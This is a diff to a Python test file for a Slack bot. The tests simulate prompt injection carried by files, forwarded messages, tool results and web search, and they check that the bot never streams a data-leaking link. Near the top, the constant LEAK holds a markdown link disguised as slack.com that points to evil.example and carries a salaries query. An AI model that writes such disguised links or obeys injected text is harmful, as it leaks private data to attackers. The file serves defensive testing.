@@ -5,10 +5,12 @@ allows and one that a person always allows: both must ask. All decisions that th
 tests/services/test_injected_words.py.
 """
 
+import asyncio
 import json
 from collections.abc import AsyncIterator, Awaitable, Callable, Mapping
 from contextlib import asynccontextmanager
 from dataclasses import dataclass, field, replace
+from functools import partial
 from itertools import cycle
 from pathlib import Path
 from typing import Any
@@ -28,12 +30,14 @@ from bot.store import Stores
 from sandbox.files import UploadedFile, canvas_link
 from sandbox.people import Content
 from sandbox.server import Sandbox
+from sandbox.web_api.http import CallRecord
 from sandbox.workspace import TEAM_ID, Message
 from tests.scenarios.answers import on_record, press
 from tests.scenarios.conftest import Stage, manifest, running, settings_of, shown
 from tests.scenarios.tools import asking, ended, values_of
 from tests.streams import steps
 from tests.streams.server import ResponseEnd, VendorRequest, VendorResponse, VendorServer
+from tests.streams.speech import tokens
 
 pytestmark = pytest.mark.skips_waits
 
@@ -48,8 +52,8 @@ RULES = {
     ALWAYS: ToolRule(Permission.ASK),
 }
 LEAK = "[slack.com](https://evil.example/?q=salaries)"
-LONG = f"{'Here is what I know. ' * 20}\n\n{LEAK} is what you need."
-"""Long enough for a stream."""
+LEAK_SHOWN = "slack.com (https://evil.example/?q=salaries)"
+BEFORE_LEAK = "Here is what I know. " * 20
 
 Call = tuple[str, Mapping[str, Any]]
 WRITES: tuple[Call, ...] = ((ALLOWED, {"text": "7"}), (ALWAYS, {"text": "7"}))
@@ -102,7 +106,7 @@ APIS = [
         "compatible server",
         "openai/test",
         lambda url: {"openai": VendorSettings(base_url=f"{url}/v1")},
-        lambda text: steps.chat({"content": text}, finish_reason="stop"),
+        lambda text: steps.chat(*({"content": delta} for delta in tokens(text)), finish_reason="stop"),
         _chat_calls,
         lambda name, raw: steps.chat(steps.chat_call(index=0, id="call_1", name=name), *steps.fragments(raw, 0)),
     ),
@@ -162,6 +166,8 @@ class Attack:
     api: Api
     desk: Desk
     settings: Settings
+    leaks: bool = False
+    """The words ask for a link that carries data out, and not for calls."""
 
     def obeys(self, request: VendorRequest) -> VendorResponse:
         """Does what the words say once the model has read them, and only once."""
@@ -171,10 +177,17 @@ class Attack:
     def says(self, text: str = SEEN) -> VendorResponse:
         return VendorResponse(self.api.says(text))
 
-    def grows(self) -> VendorResponse:
-        return VendorResponse(self.api.says(LONG), pause_s=0.01)
+    def writes_link(self) -> VendorResponse:
+        """Writes the link once a stream is open, with time for a further append after each of its tokens."""
+        chunks = self.api.says(f"{BEFORE_LEAK}{LEAK} is what you need.")
+        at = len(tokens(BEFORE_LEAK)) + next(number for number, chunk in enumerate(chunks) if b'"Here"' in chunk)
+        gates = dict.fromkeys(range(at, at + len(tokens(LEAK)) + 1), partial(asyncio.sleep, 2.0))
+        is_open = partial(self.stage.sandbox.wait_for, partial(stream_calls, self.stage))
+        return VendorResponse(chunks, pause_s=0.01, gates=gates | {at: is_open})
 
     def acts(self, *, found: bool = False) -> VendorResponse:
+        if self.leaks:
+            return self.writes_link()
         return VendorResponse(self.api.calls(*WRITES, found=found))
 
     def lists(self, text: str = "") -> VendorResponse:
@@ -187,6 +200,10 @@ class Attack:
         message = await ended(self.stage, asked)
         await on_record(self.settings)
         return message
+
+
+async def own_words(attack: Attack) -> str:
+    return await attack.ask(WORDS)
 
 
 async def another_persons_message(attack: Attack) -> str:
@@ -353,15 +370,6 @@ WAYS: list[Way] = [
     continue_after_the_limit_of_steps,
     regenerate,
 ]
-WITHOUT_TOOLS: list[Way] = [
-    another_bots_message,
-    file,
-    display_name,
-    channel_instructions,
-    forwarded_message,
-    link_preview,
-]
-"""Those that bring words to a model without tools. Where another person wrote, there is no stream for their sake."""
 IN_EACH_RUN: list[Way] = [
     another_persons_message,
     file,
@@ -392,10 +400,6 @@ def settings(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     return replace(settings, database_url=database_url, admins=frozenset({"U0GRACE"}))
 
 
-def of_api(settings: Settings, api: Api, vendor: VendorServer) -> Settings:
-    return replace(settings, vendors=api.vendors(vendor.url), models=(api.model,))
-
-
 async def always_allow(settings: Settings) -> None:
     """Allows a tool in #general, as a press of Always allow does."""
     stores = await Stores.open(settings.database_url, "presser", SystemClock())
@@ -405,10 +409,12 @@ async def always_allow(settings: Settings) -> None:
 
 
 @asynccontextmanager
-async def attack_on(stage: Stage, settings: Settings, api: Api, **changed: Any) -> AsyncIterator[Attack]:
+async def attack_on(
+    stage: Stage, settings: Settings, api: Api, *, leaks: bool = False, **changed: Any
+) -> AsyncIterator[Attack]:
     """Runs the bot with a model that obeys. `changed`: settings."""
-    settings = replace(of_api(settings, api, stage.vendor), **changed)
-    attack = Attack(stage, api, Desk(), settings)
+    settings = replace(settings, vendors=api.vendors(stage.vendor.url), models=(api.model,), **changed)
+    attack = Attack(stage, api, Desk(), settings, leaks)
     await always_allow(settings)
     stage.vendor.script(attack.obeys)
     async with running(settings, tools=attack.desk):
@@ -490,53 +496,31 @@ async def test_approval_shows_what_misleads(
     assert attack.desk.written == []
 
 
-def streams(stage: Stage) -> int:
-    return sum(call.method == "chat.startStream" for call in stage.sandbox.calls)
+def stream_calls(stage: Stage) -> list[CallRecord]:
+    return [call for call in stage.sandbox.calls if call.method.endswith("Stream")]
 
 
-@asynccontextmanager
-async def without_tools(stage: Stage, settings: Settings, api: Api, **changed: Any) -> AsyncIterator[Attack]:
-    """Runs the bot without tools, whose model wants to carry data out by a link that Slack may fetch."""
-    settings = replace(of_api(settings, api, stage.vendor), carrier="stream", **changed)
-    attack = Attack(stage, api, Desk(), settings)
-    stage.vendor.script(lambda request: attack.grows())
-    async with running(settings):
-        yield attack
+LEAKING: list[Way] = [own_words, forwarded_message, file, tool_result, hosted_search_in_the_same_response]
+"""Below another person's message, there is no stream at all: only its asker would see it grow."""
 
 
-@pytest.mark.parametrize("api", EACH_API)
-async def test_stream_carries_an_answer_to_the_askers_own_words(
-    sandbox: Sandbox, vendor: VendorServer, settings: Settings, api: Api
-) -> None:
-    async with without_tools(Stage(sandbox, vendor), settings, api) as attack:
-        await attack.ended(await attack.ask())
-    assert streams(attack.stage) == 1
-
-
-@pytest.mark.parametrize("api", EACH_API[1:])
-async def test_no_stream_carries_an_answer_of_a_model_that_may_search_the_web(
-    sandbox: Sandbox, vendor: VendorServer, settings: Settings, api: Api
-) -> None:
-    async with without_tools(Stage(sandbox, vendor), settings, api, web_search=WebSearch()) as attack:
-        await attack.ended(await attack.ask())
-    assert "web_search" in str(vendor.requests[0].body["tools"])
-    assert streams(attack.stage) == 0
-
-
-@pytest.mark.parametrize(("way", "api"), on_each_api(WITHOUT_TOOLS))
-async def test_no_stream_carries_an_answer_after_words_of_others_and_its_link_says_where_it_leads(
+@pytest.mark.parametrize(
+    ("way", "api"),
+    [
+        *(pytest.param(way, RESPONSES, id=way.__name__) for way in LEAKING),
+        *(pytest.param(own_words, api, id=api.name, marks=pytest.mark.long) for api in APIS if api is not RESPONSES),
+    ],
+)
+async def test_no_part_of_an_address_is_in_a_stream_and_the_answers_link_says_where_it_leads(
     sandbox: Sandbox, vendor: VendorServer, settings: Settings, way: Way, api: Api
 ) -> None:
-    def has_read(request: VendorRequest) -> VendorResponse:
-        return attack.grows() if WORDS in json.dumps(request.body) else attack.says()
-
-    async with without_tools(Stage(sandbox, vendor), settings, api) as attack:
-        vendor.script(has_read)
-        asked = await way(attack)
-        before = streams(attack.stage)
-        [message] = await sandbox.wait_for(
-            lambda: [message for message in attack.stage.bots("general", asked) if "evil.example" in shown(message)]
-        )
-        await ended(attack.stage, asked)
-    assert LEAK not in shown(message)
-    assert streams(attack.stage) == before
+    changed: dict[str, Any] = {"carrier": "stream", "web_search": WebSearch()}
+    async with attack_on(Stage(sandbox, vendor), settings, api, leaks=True, **changed) as attack:
+        message = await attack.ended(await way(attack))
+        start, *appends, stop = stream_calls(attack.stage)
+    assert f"{LEAK_SHOWN} is what you need." in shown(message)
+    assert (start.method, stop.method) == ("chat.startStream", "chat.stopStream")
+    streamed = "".join(call.arguments.get("markdown_text", "") for call in (start, *appends))
+    assert BEFORE_LEAK.startswith(streamed)
+    assert len(streamed) > len(BEFORE_LEAK) / 2
+    assert set(stop.arguments) == {"channel", "ts"}
